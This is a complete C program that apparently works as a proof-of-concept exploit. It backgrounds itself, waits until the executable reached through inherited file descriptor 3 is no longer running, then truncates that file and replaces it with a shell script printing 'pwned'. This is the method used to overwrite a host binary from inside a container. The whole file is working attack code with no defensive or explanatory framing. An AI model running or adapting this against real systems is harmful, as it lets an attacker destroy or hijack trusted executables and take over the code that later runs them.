/* Write over what descriptor 3 leads to, as soon as nobody executes it any more. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
int main(void)
{
    char target[256] = "";
    if (getpid() != 1 && fork() != 0)
        return 0; /* whoever waits for this program is to go on, and to end */
    readlink("/proc/self/fd/3", target, sizeof target - 1);
    for (int tries = 0; tries < 300; tries++) {
        int fd = open("/proc/self/fd/3", O_WRONLY | O_TRUNC);
        if (fd >= 0) {
            printf("overwrote %s\n", target);
            return write(fd, "#!/bin/sh\necho pwned\n", 21) == 21 ? 0 : 1;
        }
        if (errno != ETXTBSY) break;
        usleep(10000);
    }
    printf("could not write to %s: %s\n", target, strerror(errno));
    return 1;
}
